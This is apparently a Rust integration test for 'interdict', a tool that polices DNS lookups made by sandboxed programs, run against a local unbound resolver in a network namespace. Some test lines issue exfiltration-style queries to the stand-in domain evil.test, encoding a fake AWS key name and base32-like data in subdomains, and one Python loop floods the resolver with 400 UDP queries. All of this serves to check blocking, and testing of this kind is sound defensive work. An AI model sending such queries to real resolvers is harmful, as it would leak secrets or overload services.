//! Names end to end: a real resolver (unbound) in a network namespace of the test's own, and the resolvers of real
//! programs under a real agent.

use std::fs;
use std::io::Write as _;
use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::process::{Command, Stdio};

use anyhow::{Context as _, Result, ensure};
use interdict_tests::agent::{Ended, ended};
use interdict_tests::tools::binary;
use serde_json::Value;

/// Answers for a world of its own, over UDP and TCP, and writes down what it is asked.
const UNBOUND: &str = r#"
server:
  interface: 127.0.0.53
  interface: 127.0.0.54
  port: 53
  do-daemonize: no
  username: ""
  chroot: ""
  directory: "DIR"
  logfile: "DIR/unbound.log"
  pidfile: "DIR/unbound.pid"
  log-queries: yes
  use-syslog: no
  do-not-query-localhost: no
  module-config: "iterator"
  access-control: 127.0.0.0/8 allow
  local-zone: "." static
  local-data: "shop.test. 60 A 127.0.0.77"
  local-data: "six.test. 60 AAAA ::1"
  local-data: 'shop.test. 60 TXT "ask ada@example.com for it"'
  local-data: "shop.test. 60 HTTPS 1 . alpn=h2 ech=AEj+DQBEAQAgACAdd+scUi0IYFsXnUIU7ko2Nd9+F8M26pAGZVpz/KrWPgAEAAEAAWQVZWNoLXNpdGVzLmV4YW1wbGUubmV0AAA="
  local-data: "db.corp.test. 60 A 127.0.0.78"
  local-data: "evil.test. 60 A 127.0.0.66"
  local-data: "wide.test. 60 A 127.0.0.79"
remote-control:
  control-enable: no
"#;

/// The namespace, and everything in it that is not governed; then the command.
const WORLD: &str = r#"
set -eu
DIR=$1; shift
ip link set lo up
mount --bind "$DIR/resolv.conf" /etc/resolv.conf
unbound -d -c "$DIR/unbound.conf" &
UNBOUND=$!
trap 'kill $UNBOUND $WEB 2>/dev/null || true; wait' EXIT
cd "$DIR/www"
python3 -c 'import http.server
http.server.ThreadingHTTPServer(("127.0.0.77", 8080), http.server.SimpleHTTPRequestHandler).serve_forever()' 2>/dev/null &
WEB=$!
for i in $(seq 200); do
  dig +time=1 +tries=1 +short @127.0.0.53 shop.test 2>/dev/null | grep -q 127 && curl -s -o /dev/null http://127.0.0.77:8080/ && break
  sleep 0.05
done
: > "$DIR/unbound.log"
"$@"
"#;

/// What the governed programs do; each line of output begins with its name.
const PROGRAMS: &str = r#"
say() { name=$1; shift; printf '%s: %s\n' "$name" "$("$@" 2>&1 | tr '\n' ' ')"; }
digged() { dig +time=2 +tries=1 "$@" | grep -E 'status:|EDE|IN\s+(A|AAAA|TXT|HTTPS)\s|SERVER|failed|timed' | tr '\n\t' '  '; }
say getent getent hosts shop.test
say getent-search getent hosts db
say getent-evil getent hosts evil.test
say dig digged shop.test
say dig-case digged SiX.tEsT AAAA
say dig-tcp digged +tcp shop.test
say dig-https digged HTTPS shop.test
say dig-evil digged aws-key-akia1234.evil.test
say dig-txt digged TXT shop.test
say dig-other digged @127.0.0.54 shop.test
say dig-class digged -c CH TXT version.bind
say dig-zone digged +tcp AXFR shop.test
say curl curl -s -m 5 -o /dev/null -w '%{http_code} %{remote_ip}' http://shop.test:8080/
say python /usr/bin/python3 -c 'import socket; print(socket.gethostbyname("shop.test"))'
say node node -e 'const d = require("dns").promises; d.resolve4("shop.test").then(a => console.log(a), e => console.log(e.code)).then(() => d.resolve4("evil.test")).then(console.log, e => console.log(e.code))'
"#;

struct World {
    dir: tempfile::TempDir,
}

impl World {
    fn new(more: &str) -> Result<Self> {
        let dir = tempfile::tempdir()?;
        fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o755))?;
        let at = dir.path().display().to_string();
        fs::create_dir(dir.path().join("www"))?;
        fs::write(dir.path().join("unbound.conf"), UNBOUND.replace("DIR", &at))?;
        fs::write(
            dir.path().join("resolv.conf"),
            "nameserver 127.0.0.53\nsearch corp.test\noptions timeout:2 attempts:1\n",
        )?;
        let config = format!(
            "state_dir = \"state\"\n{more}\n\
             [[target]]\nname = \"shop\"\nprotocol = \"http\"\naddresses = [\"shop.test:8080\", \"six.test:8080\"]\ntls = \"disabled\"\n\
             [[target]]\nname = \"db\"\nprotocol = \"postgres\"\naddresses = [\"db\"]\n"
        );
        fs::write(dir.path().join("interdict.toml"), config)?;
        Ok(Self { dir })
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    /// Runs a script governed, in the world.
    fn run(&self, arguments: &[&str], script: &str) -> Result<Ended> {
        let out = Command::new("unshare")
            .args(["--net", "--mount", "--", "sh", "-c", WORLD, "sh"])
            .arg(self.path())
            .arg(binary())
            .args(["run", "--user", "nobody", "--config"])
            .arg(self.path().join("interdict.toml"))
            .args(arguments)
            .args(["--", "sh", "-c", script])
            .env("HOME", "/nonexistent")
            .env_remove("SUDO_UID")
            .current_dir("/")
            .stdin(Stdio::null())
            .output()?;
        Ok(ended(&out))
    }

    fn records(&self) -> Result<Vec<Value>> {
        let shown = Command::new(binary())
            .args(["sessions", "show", "--json", "--dir"])
            .arg(self.path().join("state/audit"))
            .output()?;
        let Ended { status, out, err } = ended(&shown);
        ensure!(status == 0, "{err}");
        out.lines().map(|line| Ok(serde_json::from_str(line)?)).collect()
    }

    fn asked(&self) -> Result<String> {
        Ok(fs::read_to_string(self.path().join("unbound.log"))?)
    }
}

fn possible(test: &str) -> bool {
    if !interdict_tests::can_govern(test) {
        return false;
    }
    let there = ["/usr/sbin/unbound", "/usr/bin/dig"];
    if there.iter().all(|path| Path::new(path).exists()) {
        return true;
    }
    assert!(
        std::env::var_os("CI").is_none(),
        "{test} cannot run here, and CI must not skip: unbound or dig is missing (cargo xtask setup)"
    );
    let _closed = writeln!(std::io::stderr(), "\nSKIPPED {test}: unbound or dig is missing\n");
    false
}

fn said<'a>(ended: &'a Ended, name: &str) -> Result<&'a str> {
    let line = ended
        .out
        .lines()
        .find_map(|line| line.strip_prefix(&format!("{name}: ")));
    line.with_context(|| format!("{name} said nothing: {} {}", ended.out, ended.err))
}

#[test]
fn real_programs_resolve_what_they_may() -> Result<()> {
    if !possible("names") {
        return Ok(());
    }
    let world = World::new("")?;
    let run = world.run(&[], PROGRAMS)?;
    let expect = |name: &str, parts: &[&str]| -> Result<()> {
        let text = said(&run, name)?;
        for part in parts {
            ensure!(
                text.contains(part),
                "{name}: {part:?} is not in {text:?}\n{}",
                run.err
            );
        }
        Ok(())
    };
    expect("getent", &["127.0.0.77"])?;
    expect("getent-search", &["127.0.0.78"])?;
    ensure!(said(&run, "getent-evil")?.trim().is_empty(), "{}", run.out);
    expect("dig", &["status: NOERROR", "127.0.0.77", "SERVER: 127.0.0.53#53"])?;
    expect("dig-case", &["status: NOERROR", "SiX.tEsT", "::1"])?;
    expect("dig-tcp", &["status: NOERROR", "127.0.0.77", "(TCP)"])?;
    expect("dig-https", &["status: NOERROR", "alpn=\"h2\""])?;
    ensure!(!said(&run, "dig-https")?.contains("ech="), "{}", run.out);
    expect("dig-evil", &["status: REFUSED", "EDE: 15 (Blocked)", "reference"])?;
    expect("dig-txt", &["status: REFUSED", "TXT are not among the types"])?;
    expect(
        "dig-other",
        &["status: REFUSED", "EDE: 15 (Blocked)", "SERVER: 127.0.0.54#53"],
    )?;
    expect("dig-class", &["status: REFUSED"])?;
    ensure!(!said(&run, "dig-zone")?.contains("127.0.0.77"), "{}", run.out);
    expect("curl", &["200 127.0.0.77"])?;
    expect("python", &["127.0.0.77"])?;
    expect("node", &["[ '127.0.0.77' ]", "EREFUSED"])?;

    let asked = world.asked()?;
    for never in ["evil", "version.bind", "TXT", "127.0.0.54"] {
        ensure!(!asked.contains(never), "{never} reached the resolver: {asked}");
    }
    ensure!(asked.contains("shop.test. A IN"), "{asked}");
    recorded(&world.records()?)
}

fn recorded(records: &[Value]) -> Result<()> {
    let about = |name: &str, verdict: &str| {
        records
            .iter()
            .find(|r| r["verdict"] == verdict && r["text"].as_str().is_some_and(|text| text.contains(name)))
    };
    let allowed = about("A shop.test", "allowed").context("no allowed question is recorded")?;
    ensure!(allowed["actions"][0] == "dns.resolve", "{allowed}");
    ensure!(allowed["original"] == "127.0.0.53:53", "{allowed}");
    let ended = records
        .iter()
        .find(|r| r["operation"] == allowed["operation"] && r["kind"] == "outcome")
        .context("no outcome")?;
    ensure!(
        ended["status"] == "completed" && ended["detail"] == "NOERROR",
        "{ended}"
    );
    let evil = about("evil.test", "refused").context("the refused question is not recorded")?;
    ensure!(
        evil["reason"].as_str().is_some_and(|r| r.contains("No policy")),
        "{evil}"
    );
    let other = records
        .iter()
        .find(|r| r["verdict"] == "refused" && r["original"] == "127.0.0.54:53");
    ensure!(other.is_some(), "the other server is not recorded");
    Ok(())
}

const POLICY: &str = r#"
@id("dns-tests") @reason("Names under test may be asked for, but not what looks like data.")
permit (principal, action == Action::"dns.resolve", resource)
when { resource.configured && context.dns.within.contains("test") };
"#;

/// What a policy permits is bounded all the same; texts are masked.
#[test]
fn what_policies_permit_is_bounded() -> Result<()> {
    if !possible("bounds of names") {
        return Ok(());
    }
    let world = World::new("[dns]\ntypes = [\"A\", \"TXT\"]\nnames_per_domain = 3\nper_second = 200\n")?;
    let policies = world.path().join("policies");
    fs::create_dir(&policies)?;
    fs::write(policies.join("dns.cedar"), POLICY)?;
    let policies = policies.display().to_string();
    let run = world.run(
        &["--policies", &policies],
        r#"
        digged() { name=$1; shift; printf '%s: %s\n' "$name" "$(dig +time=2 +tries=1 "$@" | grep -E 'status:|EDE|IN\s+(A|TXT)\s' | tr '\n\t' '  ')"; }
        digged text TXT shop.test
        digged outside example.org
        digged quad AAAA shop.test
        digged random mzxw6ytboi3dcnrrgaytemzugq2tmnzy.evil.test
        digged long aaaaaaaaaabbbbbbbbbbccccccccccddddddddddeee.evil.test
        for i in 1 2 3 4; do digged name$i $i.evil.test; done
        /usr/bin/python3 - <<'END'
import socket
s = socket.socket(type=socket.SOCK_DGRAM); s.settimeout(3)
codes = []
for i in range(400):
    s.sendto(bytes([i >> 8, i & 255, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + b'\4wide\4test\0\0\1\0\1', ('127.0.0.53', 53))
    codes.append(s.recv(512)[3] & 15)
print('flood:', 5 in codes, codes.count(0) <= 400)
END
        "#,
    )?;
    let expect = |name: &str, part: &str| -> Result<()> {
        let text = said(&run, name)?;
        ensure!(
            text.contains(part),
            "{name}: {part:?} is not in {text:?}\n{}",
            run.err
        );
        Ok(())
    };
    expect("text", "ask a***@e***.com for it")?;
    expect("outside", "status: REFUSED")?;
    expect("quad", "status: REFUSED")?;
    expect("random", "max_entropy")?;
    expect("long", "max_label")?;
    for name in ["name1", "name2", "name3"] {
        expect(name, "status: NXDOMAIN")?;
    }
    expect("name4", "names_per_domain")?;
    ensure!(said(&run, "flood")?.ends_with("True"), "{}", run.out);
    let asked = world.asked()?;
    ensure!(!asked.contains("mzxw6") && !asked.contains("4.evil"), "{asked}");
    let records = world.records()?;
    let limits = records.iter().filter(|r| r["refusal"] == "limit");
    ensure!(limits.count() > 0, "no limit is recorded");
    Ok(())
}
